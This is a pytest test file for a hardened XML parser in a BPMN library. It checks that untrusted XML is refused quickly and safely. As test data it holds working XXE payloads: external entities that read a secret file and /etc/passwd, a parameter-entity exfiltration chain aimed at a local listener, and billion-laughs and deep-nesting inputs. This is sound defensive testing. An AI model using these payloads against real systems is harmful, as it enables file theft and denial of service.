"""Untrusted XML cannot read files, reach the network or expand entities, and is refused fast."""

from __future__ import annotations

import os
import socket
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from lxml import etree

from bpmn.xml import DEFAULT_MAX_BYTES, XmlLimits, XmlRefused, parse_xml

BPMN_NS = "http://www.omg.org/spec/BPMN/20100524/MODEL"
SECRET = "TOP-SECRET-7f3a9c"

MINIMAL_BPMN = (
    f'<definitions xmlns="{BPMN_NS}" id="defs" targetNamespace="urn:test">\n'
    '  <process id="p" isExecutable="true">\n'
    '    <userTask id="t" name="{name}"/>\n'
    "  </process>\n"
    "</definitions>\n"
)


def child(root: etree._Element, path: str) -> etree._Element:
    found = root.find(path)
    assert found is not None, path
    return found


def refused(data: bytes, limits: XmlLimits | None = None) -> XmlRefused:
    """Parse `data`, expecting refusal within a second; return the refusal."""
    started = time.perf_counter()
    with pytest.raises(XmlRefused) as caught:
        parse_xml(data, limits=limits)
    elapsed = time.perf_counter() - started
    assert elapsed < 1.0, f"refusal took {elapsed:.2f}s"
    assert caught.value.message and str(caught.value) == caught.value.message
    return caught.value


def assert_secret_absent(error: XmlRefused) -> None:
    shown = " ".join([str(error), error.message, repr(error.args), repr(error.__cause__)])
    assert SECRET not in shown


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path


@pytest.fixture
def listener() -> Iterator[Callable[[], list[bytes]]]:
    """A TCP server on 127.0.0.1 recording every connection (and what it was sent)."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.1)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(0.2)
                try:
                    received.append(connection.recv(4096))
                except OSError:
                    received.append(b"")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    port = server.getsockname()[1]
    yield lambda: [f"http://127.0.0.1:{port}".encode(), *received]
    stop.set()
    thread.join(timeout=2)
    server.close()


# -- entities and DTDs ----------------------------------------------------------------------


def test_xxe_reading_a_local_file_is_refused_and_leaks_nothing(secret_file):
    data = (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file://{secret_file}">]>\n'
        f'<definitions xmlns="{BPMN_NS}"><process id="p" name="&xxe;"/></definitions>\n'
    ).encode()
    error = refused(data)
    assert error.code == "xml.doctype" and error.line == 2
    assert "DOCTYPE" in error.message
    assert_secret_absent(error)


def test_xxe_with_a_relative_system_path_is_refused(secret_file):
    data = (f'<!DOCTYPE d [<!ENTITY xxe SYSTEM "{secret_file.name}">]><d>&xxe;</d>').encode()
    error = refused(data)
    assert error.code == "xml.doctype"
    assert_secret_absent(error)


@pytest.mark.parametrize(
    "system_id", ["http://127.0.0.1:9/x.dtd", "file:///etc/passwd", "file:///nonexistent.dtd"]
)
def test_external_dtd_is_refused(system_id):
    data = f'<?xml version="1.0"?>\n<!DOCTYPE definitions SYSTEM "{system_id}">\n<definitions/>'
    error = refused(data.encode())
    assert error.code == "xml.doctype" and error.line == 2


def test_public_external_dtd_is_refused():
    data = b'<!DOCTYPE d PUBLIC "-//X//DTD X//EN" "http://127.0.0.1:9/x.dtd"><d/>'
    assert refused(data).code == "xml.doctype"


def test_parameter_entities_are_refused(secret_file):
    data = (
        "<!DOCTYPE d [\n"
        f'  <!ENTITY % file SYSTEM "file://{secret_file}">\n'
        "  <!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?%file;'>\">\n"
        "  %eval;\n"
        "  %exfil;\n"
        "]>\n<d/>"
    ).encode()
    error = refused(data)
    assert error.code == "xml.doctype" and error.line == 1
    assert_secret_absent(error)


def test_billion_laughs_is_refused_before_expansion():
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    data = "<?xml version='1.0'?>\n<!DOCTYPE lolz [" + "".join(lines) + "]>\n<lolz>&lol9;</lolz>"
    error = refused(data.encode())
    assert error.code == "xml.doctype"


def test_undeclared_entity_reference_without_doctype_is_refused_as_syntax():
    data = f'<definitions xmlns="{BPMN_NS}">\n<process name="&xxe;"/></definitions>'.encode()
    assert refused(data).code == "xml.syntax"


@pytest.mark.parametrize(
    "body", ['<process name="&xxe;"/>', "<process><documentation>&nbsp;</documentation></process>"]
)
def test_undeclared_entity_is_reported_with_its_name_and_line(body):
    error = refused(f'<definitions xmlns="{BPMN_NS}">\n{body}</definitions>'.encode())
    assert error.line == 2
    assert "not defined" in error.message


def test_doctype_after_a_comment_and_declaration_is_refused():
    data = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        "<!-- exported by a tool -->\n"
        "<?some-pi data?>\n"
        '<!DOCTYPE definitions [<!ENTITY e "x">]>\n'
        f'<definitions xmlns="{BPMN_NS}">&e;</definitions>'
    ).encode()
    error = refused(data)
    assert error.code == "xml.doctype" and error.line == 4


def test_doctype_in_lowercase_prolog_spelling_is_refused():
    # XML keywords are case-sensitive, so '<!doctype' is not a DOCTYPE to libxml2; it must
    # still be refused, by either check.
    error = refused(b'<!doctype d [<!ENTITY e "x">]><d>&e;</d>')
    assert error.code in ("xml.doctype", "xml.syntax")


def test_doctype_in_utf16_with_bom_is_refused(secret_file):
    text = (
        '<?xml version="1.0" encoding="UTF-16"?>\n'
        f'<!DOCTYPE d [<!ENTITY xxe SYSTEM "file://{secret_file}">]>\n'
        "<d>&xxe;</d>"
    )
    for data in (text.encode("utf-16"), text.encode("utf-16-be"), text.encode("utf-16-le")):
        error = refused(data)
        assert error.code == "xml.doctype"
        assert_secret_absent(error)


def test_doctype_in_utf32_is_refused():
    text = '<?xml version="1.0" encoding="UTF-32"?>\n<!DOCTYPE d [<!ENTITY e "x">]>\n<d>&e;</d>'
    assert refused(text.encode("utf-32")).code == "xml.doctype"


def test_doctype_with_ebcdic_like_unknown_declared_encoding_is_refused():
    data = b'<?xml version="1.0" encoding="x-unknown-42"?>\n<!DOCTYPE d [<!ENTITY e "x">]><d/>'
    assert refused(data).code in ("xml.doctype", "xml.syntax")


# A prolog longer than the 64 KB xml.py scans lets libxml2 see the DOCTYPE itself. The
# parser options still hold (no file read, no connection, no expansion): checked here.
LONG_COMMENT = b"<!--" + b"x" * 70_000 + b"-->\n"


def test_doctype_after_a_long_comment_still_reads_no_file_and_reaches_no_network(
    secret_file, listener
):
    base = listener()[0].decode()
    documents = [
        f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{secret_file}">]><d a="1">&x;</d>',
        f'<!DOCTYPE d [<!ENTITY % x SYSTEM "file://{secret_file}"> %x;]><d/>',
        f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{base}/p"> %p;]><d/>',
        f'<!DOCTYPE d SYSTEM "{base}/dtd"><d/>',
    ]
    for document in documents:
        error = refused(LONG_COMMENT + document.encode())
        assert error.code == "xml.prolog-too-long"
        assert_secret_absent(error)
    time.sleep(0.3)
    assert listener()[1:] == []


def test_doctype_after_a_long_comment_is_refused_before_parsing_with_its_line():
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    data = LONG_COMMENT + ("<!DOCTYPE l [" + "".join(lines) + "]><l>&lol9;</l>").encode()
    started = time.perf_counter()
    error = refused(data)
    # A prolog longer than the scanned window is refused outright, before libxml2 runs.
    assert error.code == "xml.prolog-too-long" and error.line == 1
    assert time.perf_counter() - started < 0.1


def test_no_network_connection_is_attempted(listener):
    base = listener()[0].decode()
    documents = [
        f'<!DOCTYPE d SYSTEM "{base}/x.dtd"><d/>',
        f'<!DOCTYPE d [<!ENTITY e SYSTEM "{base}/e">]><d>&e;</d>',
        f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{base}/p"> %p;]><d/>',
        f'<d xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{base}/i"/></d>',
        f'<d xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="urn:x {base}/s.xsd"/>',
    ]
    for document in documents:
        try:
            parse_xml(document.encode())
        except XmlRefused as error:
            assert error.code == "xml.doctype"
    time.sleep(0.3)  # let a late connection arrive before we look
    assert listener()[1:] == []


def test_xinclude_is_left_as_a_plain_element():
    root = parse_xml(
        b'<d xmlns:xi="http://www.w3.org/2001/XInclude">'
        b'<xi:include href="file:///etc/passwd" parse="text"/></d>'
    )
    assert len(root) == 1 and root[0].tag == "{http://www.w3.org/2001/XInclude}include"
    assert "root:" not in (root[0].text or "")


# -- size, depth, garbage -------------------------------------------------------------------


def test_fifty_megabyte_file_is_refused_by_size_before_parsing():
    data = b"<d>" + b"a" * (50 * 1024 * 1024) + b"</d>"
    error = refused(data)
    assert error.code == "xml.too-large"
    assert f"{DEFAULT_MAX_BYTES:,}" in error.message and f"{len(data):,}" in error.message


def test_size_limit_can_be_lowered():
    data = MINIMAL_BPMN.format(name="x").encode()
    error = refused(data, XmlLimits(max_bytes=100))
    assert error.code == "xml.too-large" and "the limit is 100 bytes" in error.message
    assert parse_xml(data, limits=XmlLimits(max_bytes=len(data))).tag == f"{{{BPMN_NS}}}definitions"


def test_ten_thousand_deep_nesting_is_refused():
    data = b"<?xml version='1.0'?>\n" + b"<a>" * 10_000 + b"</a>" * 10_000
    error = refused(data)
    assert error.code == "xml.too-deep" and "200 levels" in error.message
    assert error.line == 2


def test_depth_limit_can_be_lowered():
    data = b"<a><b><c><d/></c></b></a>"
    assert refused(data, XmlLimits(max_depth=3)).code == "xml.too-deep"
    assert parse_xml(data, limits=XmlLimits(max_depth=4)).tag == "a"


def test_binary_garbage_is_a_syntax_error():
    data = bytes(range(256)) * 64
    error = refused(data)
    assert error.code == "xml.syntax" and error.message.startswith("not")


def test_random_bytes_are_refused_quickly():
    data = os.urandom(200_000)
    assert refused(data).code in ("xml.syntax", "xml.empty")


@pytest.mark.parametrize("data", [b"", b"   \n\t ", b"<?xml version='1.0'?><!-- x -->"])
def test_empty_document_is_refused(data):
    assert refused(data).code in ("xml.empty", "xml.syntax")


def _real_corpus_file() -> bytes:
    override = os.environ.get("BPMN_CORPUS")
    root = (
        Path(override)
        if override
        else (Path(__file__).resolve().parents[2].parent / "shared" / "bpmn-corpus")
    )
    candidates = sorted((root / "camunda7").glob("*.bpmn*")) if root.is_dir() else []
    for path in candidates:
        data = path.read_bytes()
        if data.count(b"\n") > 40:
            return data
    return (
        (MINIMAL_BPMN.format(name="x") * 1)
        .encode()
        .replace(b"</process>", b"\n" * 40 + b"</process>")
    )


def test_truncated_real_file_is_a_syntax_error_with_its_line():
    data = _real_corpus_file()
    half = data[: len(data) // 2]
    error = refused(half)
    assert error.code == "xml.syntax" and "not well-formed XML" in error.message
    assert error.line is not None and 1 < error.line <= half.count(b"\n") + 1


# -- what must still be read correctly ------------------------------------------------------


def test_bpmn_in_utf16_is_read_with_non_ascii_names():
    text = '<?xml version="1.0" encoding="UTF-16"?>\n' + MINIMAL_BPMN.format(name="Prüfung ✓")
    for data in (text.encode("utf-16"), text.encode("utf-16-le"), text.encode("utf-16-be")):
        root = parse_xml(data)
        assert child(root, f".//{{{BPMN_NS}}}userTask").get("name") == "Prüfung ✓"


def test_bpmn_in_iso_8859_1_is_read_with_non_ascii_names():
    text = '<?xml version="1.0" encoding="ISO-8859-1"?>\n' + MINIMAL_BPMN.format(name="Prüfung")
    data = text.encode("iso-8859-1")
    assert "ü".encode() not in data  # really Latin-1 bytes, not UTF-8
    root = parse_xml(data)
    assert child(root, f".//{{{BPMN_NS}}}userTask").get("name") == "Prüfung"


def test_bpmn_in_utf8_with_bom_is_read():
    data = b"\xef\xbb\xbf" + MINIMAL_BPMN.format(name="Größe").encode()
    assert child(parse_xml(data), f".//{{{BPMN_NS}}}userTask").get("name") == "Größe"


def test_every_element_keeps_its_source_line():
    data = ('<?xml version="1.0"?>\n<!-- header -->\n' + MINIMAL_BPMN.format(name="x")).encode()
    root = parse_xml(data)
    assert root.sourceline == 3
    assert child(root, f"{{{BPMN_NS}}}process").sourceline == 4
    assert child(root, f".//{{{BPMN_NS}}}userTask").sourceline == 5


def test_comments_and_processing_instructions_are_dropped():
    root = parse_xml(b"<d><!-- c --><?pi x?><e/></d>")
    assert [child.tag for child in root] == ["e"]


def test_the_word_doctype_inside_content_is_not_refused():
    root = parse_xml(b"<d><e>&lt;!DOCTYPE is fine as text</e><f a='&lt;!DOCTYPE'/></d>")
    assert root[0].text == "<!DOCTYPE is fine as text"
